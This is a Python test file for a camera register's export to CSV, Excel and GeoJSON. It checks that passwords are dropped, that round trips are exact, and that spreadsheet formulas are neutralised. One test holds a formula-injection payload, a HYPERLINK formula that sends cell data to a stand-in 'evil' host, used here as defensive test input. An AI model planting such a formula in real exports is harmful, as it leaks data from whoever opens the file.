"""Export: without passwords, harmless in a spreadsheet, and read back as it was."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.model.camera import ROTATIONS, Camera, Place, StreamProfile, StreamRole
from app.model.errors import OperatorError
from app.model.register import Device, Owner
from app.model.secret import Credentials, Secret
from app.registry.exchange.bring import known_of, look
from app.registry.exchange.formula import quoted, unquoted
from app.registry.exchange.known import Known
from app.registry.exchange.parted import list_of, list_text, path_of, path_text
from app.registry.exchange.send import write_list

FORMS = (".csv", ".xlsx", ".geojson")
# What a register keeps: printable, not blank at the ends; with all that a spreadsheet, CSV or XML might trip over.
words = st.text(st.characters(categories=["L", "N", "P", "S", "Zs"], exclude_characters="\u3000"),
                min_size=1, max_size=20).map(str.strip).filter(bool) | st.sampled_from(
    ["=1+2", "+62 811", "-5", "@SUM(A1)", "'quoted", "'=x", "a;b,c", 'say "hi"', "A > B", "A / B", "C:\\x", "#N/A x",
     "0112", "1e5", "TRUE", "<b>&amp;"])
cameras = st.builds(
    lambda number, name, area, place, login, owner, height, tags, notes, device, restricted, turn: Camera(
        "", number, name, tuple(area), place,
        (StreamProfile(StreamRole.MAIN, f"rtsp://10.0.0.1/{number}"),
         StreamProfile(StreamRole.SUB, f"rtsp://10.0.0.1/{number}/s?user={{username}}")),
        Credentials(login, Secret("sangatrahasia")), owner, height, None, None, tuple(sorted(set(tags))), notes,
        Device(device, device, device), restricted, turn),
    st.integers(1, 999_999), words, st.lists(words, max_size=3),
    st.none() | st.builds(lambda x, y: Place(round(x, 9), round(y, 9)), st.floats(-11, 6), st.floats(94, 142)),
    words, st.sampled_from(["", "o1", "o2"]), st.none() | st.floats(0, 100).map(lambda v: round(v, 6)),
    st.lists(words.filter(str.isprintable), max_size=3),
    st.just("") | st.lists(words, max_size=3).map("\n".join), words, st.booleans(), st.sampled_from(ROTATIONS))
OWNERS = (Owner("o1", "=Dishub"), Owner("o2", "Hotel, Melati"))


@pytest.mark.parametrize("form", FORMS)
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=12, phases=[Phase.generate])
@given(listed=st.lists(cameras, min_size=1, max_size=6, unique_by=lambda c: c.number))
def test_what_goes_out_comes_back(tmp_path, form, listed):
    path = tmp_path / f"all{form}"
    listed = [c for c in listed if not {"#N/A"} & {c.name}]
    assert write_list(path, listed, OWNERS) == len(listed)
    assert b"sangatrahasia" not in path.read_bytes()
    same = look(path, Known([replace(c, id=str(c.number)) for c in listed], OWNERS))
    assert same.refused == () and same.steps == (), "into the same register nothing changes"
    # Into an empty one everything comes, but passwords.
    new = look(path, Known([], OWNERS))
    assert new.refused == ()
    came = {step.camera.number: step.camera for step in new.steps}
    for camera in listed:
        assert came[camera.number] == replace(camera, credentials=Credentials(camera.credentials.username))


@given(words)
def test_quoting_is_undone_exactly(text):
    assert unquoted(quoted(text)) == text
    assert quoted(text)[0] not in "=+-@\t\r"


@given(st.lists(words, max_size=4))
def test_names_in_one_cell_come_apart_again(names):
    assert path_of(path_text(names)) == tuple(names)
    assert list_of(list_text(names)) == tuple(names)


def test_a_spreadsheet_runs_nothing(tmp_path, camera):
    evil = camera(1, name='=HYPERLINK("http://evil/?"&A1)', notes="@SUM(1)\nzwei", area=("+x",))
    write_list(tmp_path / "a.csv", [evil], ())
    text = (tmp_path / "a.csv").read_bytes()
    assert text.startswith(b"\xef\xbb\xbf"), "Excel takes UTF-8 without the mark for Windows-1252"
    [_head, row] = csv.reader(io.StringIO(text.decode("utf-8-sig")))
    assert not [cell for cell in row if cell[:1] in "=+@" and cell] and row[1].startswith("'=")
    write_list(tmp_path / "a.xlsx", [evil], ())
    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert sheet["B2"].data_type == "s" and sheet["B2"].value == evil.name
    assert sheet["A2"].value == 1 and isinstance(sheet["H2"].value, float)


def test_a_name_without_ending_and_a_folder_that_is_not_there_are_told(tmp_path, camera):
    with pytest.raises(OperatorError, match=r"must end with one of \.csv"):
        write_list(tmp_path / "all.doc", [camera(1)], ())
    with pytest.raises(OperatorError, match="cannot be written"):
        write_list(tmp_path / "none" / "all.csv", [camera(1)], ())
    (tmp_path / "there.csv").mkdir()
    with pytest.raises(OperatorError, match="cannot be written"):
        write_list(tmp_path / "there.csv", [camera(1)], ())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["there.csv"], "no draft is left"


def test_the_register_itself_goes_round(registry, load, tmp_path):
    load("no,nama,rtsp,pemilik,wilayah,sandi\n1,A,rtsp://c/1,Dishub,Makassar > Tallo,geheim\n")
    write_list(tmp_path / "o.geojson", registry.list_cameras(), registry.owners.all())
    assert look(tmp_path / "o.geojson", known_of(registry)).unchanged == ((2, 1),)
